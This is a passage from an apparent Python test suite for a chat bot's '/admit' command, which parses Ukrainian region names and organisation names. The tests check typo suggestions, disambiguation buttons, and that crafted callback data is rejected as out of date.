        ("/admit Lviv, Nova", "Nova"),
    ):
        [question] = await user.send(text)
        assert f"Name: {name}\nRegion: Lviv\n" in question.plain_text, text
        await press(user, question.message_id, "Cancel")
    # A typo is not a region here: it gets suggestions, not a guess.
    [typo] = await user.send("/admit Львв ГО «Нова»")
    assert "not found" in typo.plain_text and "Lviv" in typo.plain_text
    assert await store.members.count() == 1


async def test_admit_asks_which_reading_when_the_text_reads_two_ways(
    client: BotClient, store: Storage
) -> None:
    user = await coordinator(client, store)
    # «місто» is a marker the region may take, or the first word of the name.
    [choice] = await user.send("/admit Львів Місто людей")
    assert "Where does the region end" in choice.plain_text
    assert choice.button("«Місто людей»") and choice.button("«людей»")
    assert await store.members.count() == 0
    await press(user, choice.message_id, "«Місто людей»")
    assert "Name: Місто людей\nRegion: Lviv\n" in text_of(user, choice.message_id)
    await press(user, choice.message_id, "Admit")
    [member] = await store.members.all()
    assert member.name == "Місто людей" and member.region_code == LVIV
    # A crafted reading that the text does not have changes nothing.
    [choice] = await user.send("/admit Львів Місто мрій")
    answered = await user.click_data(choice, AdmitReadingCb(words=3).pack())
    assert "out of date" in str(answered.get("text"))
    assert await store.members.count() == 1
